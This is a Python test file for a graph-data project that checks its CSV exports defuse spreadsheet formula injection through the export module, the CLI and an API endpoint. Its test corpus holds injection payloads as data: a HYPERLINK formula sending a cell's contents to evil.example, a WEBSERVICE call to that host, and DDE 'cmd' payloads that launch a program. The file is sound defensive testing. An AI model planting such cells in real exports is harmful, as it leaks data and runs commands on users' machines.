"""CSV exports never hand a spreadsheet a formula (OWASP, "CSV Injection"): a cell that could
start one (= + - @, tab, CR, also after leading spaces or in full-width form) is written with
a leading ', and a plain number such as -5 stays a number. Through `coalition export`, the
CLI's `query --format csv`, and `/api/export?format=csv`, on the real embedded store. The
console's CSV download is held to the same corpus in tests/api/test_console_csv_browser.py."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api import cli
from api.app import create_app
from api.service import CoalitionService
from graph.export import csv_cell, defuse_formula, export
from graph.projection import project
from graph.store import GraphStore

#: (cell text, what the CSV must hold): attacks the campaign used, their variants, and
#: cells that must stay as they are. Shared with the browser test of the console.
CORPUS: list[tuple[str, str]] = [
    ('=HYPERLINK("https://evil.example/?d="&A1,"Click")',
     '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tplain after a tab", "'\tplain after a tab"),
    ("   =1+1", "'   =1+1"),
    ("\n@SUM(1)", "'\n@SUM(1)"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width =
    ("\u3000\uff20SUM(1)", "'\u3000\uff20SUM(1)"),
    ("-", "'-"),
    ("=", "'="),
    ("-5+A1", "'-5+A1"),
    ("-0x10", "'-0x10"),
    # plain numbers stay numbers
    ("-5", "-5"),
    ("+3.25", "+3.25"),
    ("-1e5", "-1e5"),
    ("-.5", "-.5"),
    ("42", "42"),
    # ordinary text stays as it is, including formula characters inside it
    ("Biloxi Police Department", "Biloxi Police Department"),
    ("a=b+c@d", "a=b+c@d"),
    ("'=already quoted", "'=already quoted"),
    ("", ""),
    (" ", " "),
    ("org:ms:=x", "org:ms:=x"),
]


@pytest.mark.parametrize(("text", "want"), CORPUS)
def test_the_rule(text: str, want: str) -> None:
    assert defuse_formula(text) == want


def test_values_become_cells() -> None:
    assert csv_cell(-5) == "-5" and csv_cell(2.5) == "2.5" and csv_cell(None) == ""
    assert csv_cell(["=1+1"]) == '["=1+1"]'  # JSON text starts with [ : nothing to run
    assert csv_cell("=1+1") == "'=1+1"


#: the organizations the store gets: one per attack, named by it
ATTACKS = [text for text, want in CORPUS if text != want]


def _write_attacks(store: GraphStore) -> None:
    rows = [{"id": f"org:ms:attack-{i}",
             "props": {"id": f"org:ms:attack-{i}", "name": text, "kind": "truck stop",
                       "state": "MS", "city": "=WEBSERVICE(\"https://evil.example\")",
                       "count": -5, "note": "-5", "source": "test", "source_row": i}}
            for i, text in enumerate(ATTACKS)]
    store.upsert_nodes(("Organization", "TruckStop"), rows)
    store.upsert_edges("LOCAL_CONTACT", [
        {"src": "org:ms:attack-0", "dst": "org:ms:attack-1", "key": "+k|x",
         "props": {"key": "+k|x", "note": "@SUM(1)", "count": -3}}])


def _check_nodes(text: str) -> None:
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert len(rows) == len(ATTACKS)
    for i, attack in enumerate(ATTACKS):
        row = rows[f"org:ms:attack-{i}"]
        assert row["name"] == "'" + attack, row
        assert row["city"] == "'=WEBSERVICE(\"https://evil.example\")"
        assert row["count"] == "-5" and row["note"] == "-5"  # numbers stay numbers
        assert row["kind"] == "truck stop"
    for row in rows.values():
        for cell in row.values():
            assert not cell or cell[0] not in "=+-@\t\r" or re.fullmatch(
                r"[+-][0-9.]+", cell), cell


def _check_edges(text: str) -> None:
    (row,) = csv.DictReader(io.StringIO(text, newline=""))
    assert row["key"] == "'+k|x" and row["note"] == "'@SUM(1)" and row["count"] == "-3"
    assert row["source"] == "org:ms:attack-0" and row["type"] == "LOCAL_CONTACT"


def test_export_module_on_both_stores(store: GraphStore, tmp_path: Path) -> None:
    _write_attacks(store)
    nodes, edges = export(project(store), "csv", tmp_path / "csv")
    _check_nodes(nodes.read_bytes().decode("utf-8"))
    _check_edges(edges.read_bytes().decode("utf-8"))


def test_cli_export_and_query(embedded_settings, embedded_store: GraphStore, tmp_path: Path,
                              monkeypatch: pytest.MonkeyPatch) -> None:
    _write_attacks(embedded_store)
    monkeypatch.setenv("COALITION_GRAPH_NAME", embedded_settings.graph_name)
    runner = CliRunner()
    base = ["--data-dir", str(embedded_settings.data_dir)]
    r = runner.invoke(cli.app, [*base, "export", "--format", "csv", "--out",
                                str(tmp_path / "out")])
    assert r.exit_code == 0, r.output
    _check_nodes((tmp_path / "out" / "nodes.csv").read_bytes().decode("utf-8"))
    _check_edges((tmp_path / "out" / "edges.csv").read_bytes().decode("utf-8"))
    r = runner.invoke(cli.app, [*base, "query", "--format", "csv",
                                "MATCH (o:Organization) RETURN o.name AS name, o.count AS n "
                                "ORDER BY o.id"])
    assert r.exit_code == 0, r.output
    got = list(csv.reader(io.StringIO(r.stdout, newline="")))
    assert got[0] == ["name", "n"]
    assert {tuple(x) for x in got[1:]} == {("'" + a, "-5") for a in ATTACKS}


def test_api_export(embedded_settings, embedded_store: GraphStore, tmp_path: Path) -> None:
    _write_attacks(embedded_store)
    settings = embedded_settings.model_copy(update={"keys_file": tmp_path / "keys.json",
                                                    "audit_file": tmp_path / "audit.log"})
    token = CoalitionService(settings).keys().create("analyst", "csv test")[1]
    r = TestClient(create_app(settings)).get(
        "/api/export?format=csv", headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200, r.text
    z = zipfile.ZipFile(io.BytesIO(r.content))
    _check_nodes(z.read("nodes.csv").decode("utf-8"))
    _check_edges(z.read("edges.csv").decode("utf-8"))
